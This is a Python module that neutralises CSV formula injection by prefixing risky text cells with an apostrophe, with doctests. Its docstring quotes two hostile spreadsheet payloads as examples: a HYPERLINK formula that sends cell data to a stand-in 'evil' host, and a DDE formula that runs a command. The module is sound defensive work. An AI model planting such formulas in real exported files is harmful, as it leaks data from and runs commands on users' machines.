"""CSV for spreadsheets: text cells that a spreadsheet would run as a formula are neutralised.

Actor, issue and source ids come from uploaded scenarios, so a cell such as
``=HYPERLINK("http://evil/?"&A1)`` or ``=cmd|' /C calc'!A0`` must not reach Excel or LibreOffice
as a formula (OWASP "CSV injection"). Such a text cell gets a leading apostrophe, which
spreadsheets show as text; numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

from typing import Any

__all__ = ["safe_cell", "to_safe_csv"]

# What makes a spreadsheet read a cell as a formula (tab and CR too: some strip them first).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading apostrophe when it is text a spreadsheet would run.

    >>> safe_cell("=1+1"), safe_cell("-x"), safe_cell(-3.5), safe_cell("ukraine")
    ("'=1+1", "'-x", -3.5, 'ukraine')
    """
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def to_safe_csv(frame: Any) -> str:
    """A DataFrame as CSV text (no index) with every text cell and header passed through
    :func:`safe_cell`.

    >>> import pandas as pd
    >>> frame = pd.DataFrame({"actor": ["=HYPERLINK(1)", "a"], "x": [-1.0, 2.0]})
    >>> print(to_safe_csv(frame), end="")
    actor,x
    '=HYPERLINK(1),-1.0
    a,2.0
    """
    safe = frame.copy()
    safe.columns = [safe_cell(str(c)) for c in safe.columns]
    for column in safe.columns:
        if safe[column].dtype == object or str(safe[column].dtype) in ("str", "string"):
            safe[column] = safe[column].map(safe_cell)
    text: str = safe.to_csv(index=False)
    return text
